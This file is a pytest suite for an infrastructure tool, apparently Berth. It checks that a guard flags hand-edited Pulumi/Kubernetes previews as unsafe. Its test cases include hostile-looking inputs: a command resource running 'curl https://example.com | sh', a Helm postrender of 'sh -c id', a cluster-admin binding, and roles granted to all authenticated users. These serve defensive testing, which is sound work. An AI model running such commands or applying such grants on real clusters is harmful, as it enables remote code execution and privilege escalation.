"""Previews changed by hand in places other than the manager's own objects: none is safe."""

from __future__ import annotations

import copy
from collections.abc import Callable
from functools import cache, partial
from typing import Any

import pytest

from berth.diff.guard.preview import Answer
from berth.diff.guard.preview_steps import PreviewFormatError
from tests.berth.diff.answers.engine_previews import Step, config_of, digest, state, steps
from tests.berth.diff.answers.test_guard_answers import FORMS, answer_to, one, run_of, updated
from tests.berth.diff.edits.one_key import base_values, registered
from tests.stack_files import evaluation

KUBECONFIG = "apiVersion: v1\nclusters: []\n"
EVERYBODY = [{"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}]
Edit = Callable[[list[Step]], list[Step]]


@cache
def _team_run() -> tuple[Step, ...]:
    """The steps of a run of a team's stack that changes nothing; a reference to a stack is read."""
    all_registered = list(registered("team-a", base_values("team-a")).values())
    read = [{"op": "read", "urn": each.urn, "newState": state(each)} for each in all_registered if each.read]
    return (*steps(all_registered, all_registered), *read)


def again(stack: str) -> list[Step]:
    """The steps of a run that changes nothing."""
    return copy.deepcopy(list(_team_run())) if stack == "team-a" else run_of(stack, "again")


def added(type_: str, name: str, /, *, custom: bool = True, **inputs: Any) -> Edit:
    """One more resource."""

    def edit(run: list[Step]) -> list[Step]:
        urn = f"{run[0]['urn'].partition('::')[0]}::berth::{type_}::{name}"
        return [
            *run,
            {"op": "create", "urn": urn, "newState": {"urn": urn, "custom": custom, "type": type_, "inputs": inputs}},
        ]

    return edit


def changed(ending: str, path: str, value: object) -> Edit:
    """An input of a resource is updated."""
    return partial(updated, ending=ending, path=path, value=value)


def as_it_is(ending: str, path: str, value: object) -> Edit:
    """An input of a resource stays as it is, which is not what the stack file says."""

    def edit(run: list[Step]) -> list[Step]:
        step = one(updated(run, ending, path, value), ending)
        step.update(op="same", oldState=step["newState"])
        return run

    return edit


def by_another_provider(ending: str, name: str) -> Edit:
    """A resource goes to another cluster or project: its provider is another one."""

    def edit(run: list[Step]) -> list[Step]:
        for side in ("oldState", "newState"):
            before = one(run, ending)[side]
            kind = before["provider"].split("::")[2]
            before["provider"] = f"urn:pulumi:{before['urn'].split(':')[2]}::berth::{kind}::{name}::id"
        return run

    return edit


def read_stack(name: str) -> Edit:
    """A reference to a stack is one to another."""

    def edit(run: list[Step]) -> list[Step]:
        one(run, "StackReference::platform")["newState"]["inputs"]["name"] = name
        return run

    return edit


EDITED: dict[str, tuple[str, Edit]] = {
    # Objects in clusters of workers
    "a worker's connections are let in": (
        "multikueue",
        changed("::central/vision-network-policy", "spec.ingress", [{}]),
    ),
    "a worker's namespace without Pod Security": (
        "multikueue",
        changed("::central/vision-namespace", "metadata.labels", {}),
    ),
    "a worker's policy without rules": (
        "multikueue",
        changed("::central/policies-pods-policy", "spec.validations", []),
    ),
    "a worker's policy of another namespace": (
        "multikueue",
        changed("::east/policies-jobs-binding", "spec.matchResources", {"namespaceSelector": {}}),
    ),
    "the manager may do more in a worker": (
        "multikueue",
        changed("::central/manager-access-role", "rules", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]),
    ),
    "everybody has the manager's role in a worker": (
        "multikueue",
        changed("::east/manager-access-binding", "subjects", EVERYBODY),
    ),
    "a worker's flavor of other nodes": (
        "multikueue",
        changed("::central/flavors-h100", "spec.nodeLabels", {"a": "b"}),
    ),
    "a worker's limits": ("multikueue", changed("::central/vision-quota", "spec.hard", {"pods": "9999"})),
    "a worker's object that stays": ("multikueue", as_it_is("::central/vision-network-policy", "spec.ingress", [{}])),
    "a worker's object that is left out": (
        "multikueue",
        lambda run: [each for each in run if not each["urn"].endswith("::central/flavors-h100")],
    ),
    "one more administrator of a worker": (
        "multikueue",
        added(
            "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
            "central/a",
            kind="ClusterRoleBinding",
            metadata={"name": "a"},
            roleRef={"name": "cluster-admin"},
        ),
    ),
    "an object of the manager in a worker": (
        "multikueue",
        added(
            "kubernetes:kueue.x-k8s.io/v1beta2:MultiKueueConfig",
            "central/a",
            kind="MultiKueueConfig",
            metadata={"name": "a"},
        ),
    ),
    "a worker's Kueue with other settings": ("multikueue", changed("::central/controllers-kueue", "values", {})),
    # Secrets
    "a token of another account": (
        "multikueue",
        changed(
            "::central/manager-access-token",
            "metadata.annotations",
            {"kubernetes.io/service-account.name": "kueue-controller-manager"},
        ),
    ),
    "a kubeconfig that is not hidden": (
        "multikueue",
        changed("::workers-kubeconfig-east", "stringData", {"kubeconfig": KUBECONFIG}),
    ),
    "one more secret": (
        "dev",
        added(
            "kubernetes:core/v1:Secret",
            "a",
            kind="Secret",
            metadata={"name": "a", "namespace": "vision"},
            stringData="[secret]",
        ),
    ),
    "a secret of another type": (
        "dev",
        changed("::collection-secret-berth-kueue-metrics", "type", "kubernetes.io/dockercfg"),
    ),
    # Providers
    "a provider of another cluster": ("dev", changed("::kubernetes", "clusterIdentifier", "acme-ml-dev/a/b")),
    "a worker's provider of another cluster": (
        "multikueue",
        changed("::central/kubernetes", "clusterIdentifier", "acme-ml-dev/a/b"),
    ),
    "a provider with a kubeconfig of its own": ("dev", changed("::kubernetes", "kubeconfig", KUBECONFIG)),
    "a provider that renders YAML": ("dev", changed("::kubernetes", "renderYamlToDirectory", "out")),
    "a provider that is somebody else": (
        "dev",
        changed("::google", "impersonateServiceAccount", "owner@acme-ml-dev.iam.gserviceaccount.com"),
    ),
    "a provider of another project": ("dev", changed("::google", "project", "other")),
    "a provider with an endpoint": ("dev", changed("::google", "containerCustomEndpoint", "https://example.com")),
    "a default provider": ("dev", added("pulumi:providers:gcp", "default_10_2_0", project="other")),
    "a provider that no program of Berth has": ("dev", added("pulumi:providers:command", "default_1_0_0")),
    "an object in another cluster": (
        "multikueue",
        by_another_provider("::central/vision-network-policy", "east/kubernetes"),
    ),
    "a worker's object in the manager": ("multikueue", by_another_provider("::central/vision-namespace", "kubernetes")),
    "an object by a provider that nobody knows": ("dev", by_another_provider("::vision-namespace", "other")),
    "a pool by another provider": ("dev", by_another_provider("::l4-reserved-pool", "other")),
    # Kinds that Berth does not make
    "a command": ("dev", added("command:local:Command", "a", create="curl https://example.com | sh")),
    "a random password": ("dev", added("random:index/randomPassword:RandomPassword", "a", length=8)),
    "a bucket elsewhere": ("dev", added("aws:s3/bucketV2:BucketV2", "a", bucket="a")),
    "a group of files": (
        "dev",
        added("kubernetes:yaml/v2:ConfigGroup", "a", custom=False, yaml="kind: ClusterRoleBinding"),
    ),
    "a file": ("dev", added("kubernetes:yaml:ConfigFile", "a", custom=False, file="https://example.com/a.yaml")),
    "a folder of Kustomize": ("dev", added("kubernetes:kustomize:Directory", "a", custom=False, directory="a")),
    "a chart of another kind": ("dev", added("kubernetes:helm.sh/v4:Chart", "a", custom=False, chart="a")),
    "a component that somebody else wrote": ("dev", added("eks:index:Cluster", "a", custom=False, name="a")),
    "a component with inputs": ("dev", added("berth:gke:Cluster", "a", custom=False, name="a")),
    "a resource with the name of a component": ("dev", added("berth:gke:Cluster", "a", name="a")),
    "an object without a kind": ("dev", added("kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", "a", subjects=[])),
    "a reference to another stack": ("dev", added("pulumi:pulumi:StackReference", "a", name="acme/other/prod")),
    # Helm releases
    "another value of a chart": ("dev", changed("::controllers-kueue", "values.nodeSelector", {"a": "b"})),
    "a program after a chart": ("dev", changed("::controllers-kueue", "postrender", "sh -c id")),
    "files of values of a chart": ("dev", changed("::controllers-jobset", "valueYamlFiles", ["a.yaml"])),
    "a chart that is not verified": ("dev", changed("::controllers-jobset", "repositoryOpts", {"repo": "example.com"})),
    "a chart without hooks": ("dev", changed("::controllers-kueue", "disableWebhooks", True)),
    # Fields beside those of the stack file
    "an object with an owner": (
        "dev",
        changed("::vision-namespace", "metadata.ownerReferences", [{"kind": "Namespace", "name": "a", "uid": "1"}]),
    ),
    "an object with a finalizer": ("dev", changed("::vision-namespace", "metadata.finalizers", ["example.com/a"])),
    "a cluster with one more setting": ("dev", changed("::cluster-cluster", "enableLegacyAbac", True)),
    "a pool with one more setting": ("dev", changed("::l4-reserved-pool", "nodeConfig.metadata", {"startup": "id"})),
    "a change that is called secret": ("dev", changed("::vision-network-policy", "spec.ingress", "[secret]")),
    "a change that is called unknown": ("dev", changed("::policies-pods-policy", "spec.validations", "[unknown]")),
    "an account that is called unknown": (
        "dev",
        changed("::controllers-kueue", "values", "04da6b54-80e4-46f7-96ec-b56ff0331ba9"),
    ),
    "a subnet of another network": (
        "dev",
        changed("::network-subnet", "network", "projects/acme-ml-dev/global/networks/other"),
    ),
    # A fleet on Alibaba Cloud
    "a quota tree of others": ("ack-fleet", changed("::objects-quota-tree", "spec.root.min", {"cpu": 1})),
    "a propagation of other objects": (
        "ack-fleet",
        changed("::objects-shared-propagation", "spec.resourceSelectors", [{"apiVersion": "v1", "kind": "Secret"}]),
    ),
    "another placement": ("ack-fleet", changed("::objects-propagation-default", "spec.placement", {})),
    "a namespace of a fleet with other labels": (
        "ack-fleet",
        changed("::objects-namespace-trainers", "metadata.labels", {}),
    ),
    "other machines": ("ack-fleet", changed("::pool-hangzhou-a-a100", "instanceTypes", ["ecs.g7.large"])),
    "a member that is open": ("ack-fleet", changed("::member-hangzhou-a-cluster", "slbInternetEnabled", True)),
    "a provider of another region": ("ack-fleet", changed("::alibaba-cloud", "region", "cn-beijing")),
    "a provider of another account": ("ack-fleet", changed("::alibaba-cloud", "accessKey", "a")),
    "a provider with another kubeconfig": ("ack-fleet", changed("kubernetes::fleet", "kubeconfig", "other.kubeconfig")),
    "one more machine": ("ack-fleet", added("alicloud:ecs/instance:Instance", "a", instanceName="a")),
    # A team's own stack
    "a job with another image": ("team-a", changed("::evaluation-job", "spec.template.spec.hostNetwork", True)),
    "a job in another queue": (
        "team-a",
        changed("::evaluation-job", "metadata.labels", {"kueue.x-k8s.io/queue-name": "other"}),
    ),
    "other secrets": ("team-a", changed("::files-secrets-tokens", "spec.parameters.secrets", "[]")),
    "other files": ("team-a", changed("::files-config-sweep", "data", {"a": "b"})),
    "a job in another namespace": ("team-a", changed("::evaluation-job", "metadata.namespace", "kube-system")),
    "one more object of a team": (
        "team-a",
        added("kubernetes:core/v1:Pod", "a", kind="Pod", metadata={"name": "a", "namespace": "team-a"}),
    ),
    "the platform of others": ("team-a", read_stack("other/berth/another-platform")),
    "a platform whose name ends as its own": ("team-a", read_stack("acme/berth/not-batch-platform")),
    "another cluster of a team": ("team-a", changed("::kubernetes", "context", "other")),
}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("case", EDITED)
def test_a_preview_that_was_changed_by_hand_is_not_safe(case: str, form: str) -> None:
    stack, edit = EDITED[case]
    report = answer_to(FORMS[form](edit(again(stack)), config_of(evaluation(stack).file)), stack)
    assert report.answer != Answer.SAFE
    assert report.blocked or any(each.startswith("it ") for each in report.doubts), report.doubts


@pytest.mark.parametrize("form", FORMS)
def test_a_run_of_a_team_that_changes_nothing_is_safe(form: str) -> None:
    """Also with what Kueue changes of its jobs."""
    run = as_it_is("::evaluation-job", "spec.suspend", True)(again("team-a"))
    report = answer_to(FORMS[form](run, config_of(evaluation("team-a").file)), "team-a")
    assert (report.answer, report.doubts) == (Answer.SAFE, ())


def test_an_update_that_a_refresh_is_said_to_have_found_is_compared() -> None:
    """In an object a refresh lists an update, too, which the program then leaves as it is, or changes back."""
    run = [*again("dev"), *changed("::vision-network-policy", "spec.ingress", [{}])(again("dev"))]
    preview = digest([each for each in run if each["op"] != "same"], config_of(evaluation("dev").file))
    preview["steps"] = [*digest(again("dev"), {})["steps"], *preview["steps"]]
    preview["changeSummary"] = {"same": len(again("dev")), "refresh": 1}
    assert answer_to(preview).answer == Answer.UNKNOWN


def test_a_namespace_that_the_provider_adds_is_no_change() -> None:
    """As the engine prints an object without namespaces whose kind is installed by the same update."""
    run = as_it_is("::flavors-l4-spot", "metadata.namespace", "default")(again("dev"))
    assert answer_to(digest(run, config_of(evaluation("dev").file))).answer == Answer.SAFE
    run = as_it_is("::vision-network-policy", "metadata.namespace", "default")(again("dev"))
    assert answer_to(digest(run, config_of(evaluation("dev").file))).answer == Answer.UNKNOWN


def test_a_secret_in_an_event_is_hidden_and_nothing_else_is() -> None:
    """As the engine writes it: a mark, and no text."""
    mark = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "ciphertext": "[secret]"}
    config = config_of(evaluation("dev").file)
    run = as_it_is("::kubernetes", "kubeconfig", mark)(again("dev"))
    assert answer_to(FORMS["stream"](run, config)).answer == Answer.SAFE
    run = as_it_is("::vision-network-policy", "spec.ingress", mark)(again("dev"))
    assert answer_to(FORMS["stream"](run, config)).answer == Answer.UNKNOWN


@pytest.mark.parametrize("urn", ["", "kubernetes", "urn:pulumi:dev::berth"])
def test_a_urn_that_is_none_is_not_a_preview(urn: str) -> None:
    run = again("dev")
    run[5]["urn"] = urn
    with pytest.raises(PreviewFormatError):
        answer_to(digest(run, config_of(evaluation("dev").file)))


def test_the_edits_change_what_they_name() -> None:
    """Else a case proves nothing: each differs from the run that is safe."""
    assert all(edit(again(stack)) != again(stack) for stack, edit in EDITED.values())
